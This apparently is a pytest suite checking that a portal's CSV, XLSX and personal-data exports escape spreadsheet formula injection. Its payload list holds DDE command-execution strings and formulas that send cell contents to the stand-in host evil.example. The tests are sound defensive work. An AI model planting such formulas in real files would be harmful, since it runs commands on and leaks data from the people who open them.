"""Words that a spreadsheet would run, in every list that leaves the portal as a file."""

import csv
import html
import io
import json
import re
import zipfile

import pytest

from portal.lib import sheets
from tests.abuse.more import sealed_again
from tests.abuse.planting import plant, unplanted
from tests.house.knocking import cookies_of
from tests.house.register import doors
from tests.reading import sheets_of

pytestmark = pytest.mark.django_db

BEGIN = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
COMMANDS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
]


def formulas_of(book: bytes) -> list[str]:
    """The formulas and links of a workbook, wherever in its sheets they stand."""
    with zipfile.ZipFile(io.BytesIO(book)) as held:
        sheets = [held.read(name).decode() for name in held.namelist() if name.startswith("xl/worksheets/")]
    return [found for sheet in sheets for found in re.findall(r"<(?:f|hyperlink)\b[^>]*>[^<]*", sheet)]


def test_a_formula_in_a_workbook_is_seen():
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as book:
        book.writestr("xl/worksheets/sheet1.xml", '<c><f aca="0">1+1</f></c><c><v>=1+1</v></c>')
    assert formulas_of(held.getvalue()) == ['<f aca="0">1+1']


def read(answer) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def runs(cell: str) -> bool:
    """Whether a spreadsheet might take this for a formula; a number below nought is none."""
    begins = cell.lstrip(" \u00a0\ufeff\u200b")
    if not begins.startswith(tuple(BEGIN)):
        return False
    try:
        float(begins)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_stays_one_in_csv(command):
    ((cell,),) = read(sheets.csv_answer("x", [[command]]))
    assert runs(cell) is False
    assert command.replace("\ufeff", "") in cell.replace("\ufeff", "")  # nothing of it is lost


@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_becomes_a_formula_in_a_workbook(command):
    made = sheets.xlsx_answer("x", [["Heading"], [command]], sheet="x").content
    with zipfile.ZipFile(io.BytesIO(made)) as book:
        page = book.read("xl/worksheets/sheet1.xml").decode()
    assert ("<f>" in page, "<hyperlink" in page, page.count('t="s"')) == (False, False, 2)


def test_a_number_below_nought_stays_a_number():
    assert read(sheets.csv_answer("x", [[-5, -1.5]])) == [["-5", "-1.5"]]


@pytest.mark.long
@pytest.mark.parametrize("begin", ["=", "＝"])
def test_no_list_that_leaves_the_portal_holds_a_formula(client, people, everywhere, begin):
    """Every text of every table begins as a formula; then every file of a list is taken, as an administrator."""
    assert unplanted(plant(lambda _: f"{begin}1+1")) == set()
    named = sealed_again(everywhere)
    kept, seen, running = cookies_of(client, people["adi"]), 0, {}
    for door in doors():
        if door.method == "GET" and door.path.endswith((".csv", ".xlsx")):
            client.cookies = kept.copy()
            answer = client.get(door.path.format(**named))
            if answer.status_code != 200:
                continue
            if door.path.endswith(".csv"):
                cells = [cell for row in read(answer) for cell in row]
                if found := [cell for cell in cells if runs(cell)]:
                    running[door.path] = found
            else:
                cells = [cell for sheet in sheets_of(answer.content) for row in sheet for cell in row]
                if found := formulas_of(answer.content):
                    running[door.path] = found
            seen += sum("1+1" in cell for cell in cells)
    assert running == {}
    assert seen > 10  # the words were there to be run


def words_of(page: str) -> list[str]:
    """Everything that stands between the tags of a page: a spreadsheet that opens it gives each a cell."""
    found = (html.unescape(one.strip()) for one in re.findall(r">([^<]+)<", page))
    return [one for one in found if one]


def test_a_formula_in_a_table_of_a_page_is_seen():
    assert [one for one in words_of("<tr><th>note</th><td>=1+1 &amp; 2</td></tr>") if runs(one)] == [
        "=1+1 & 2"
    ]


@pytest.mark.long
@pytest.mark.parametrize("who", ["priya", "tom"])
@pytest.mark.parametrize("begin", ["=", "＝"])
def test_no_cell_of_ones_own_copy_begins_a_formula(client, people, named, begin, who):
    """The copy is a page of tables, and the same for other programs, which are given what is stored and nothing else."""
    plant(lambda _: f"{begin}1+1")
    client.cookies = cookies_of(client, people[who])
    with zipfile.ZipFile(io.BytesIO(client.get("/me/data/my-data.zip").content)) as copy:
        page, stored = copy.read("my-data.html").decode(), json.loads(copy.read("my-data.json"))
        assert sorted(copy.namelist()) == ["my-data.html", "my-data.json"]
    planted = [
        value
        for one in stored.values()
        for row in one["rows"]
        for value in row.values()
        if isinstance(value, str) and value.startswith(f"{begin}1+1")
    ]
    words = words_of(page)
    assert [one for one in words if runs(one)] == []
    assert planted != []
    assert sorted(one for one in words if one.startswith(f"'{begin}")) == sorted(f"'{one}" for one in planted)


@pytest.mark.parametrize("words", ["a,b", 'a"b', "a\nb", "a;b", "a\tb", "'=x"])
def test_no_words_begin_a_cell_or_a_line_of_their_own(words):
    assert read(sheets.csv_answer("x", [[words, "end"]])) == [[words, "end"]]
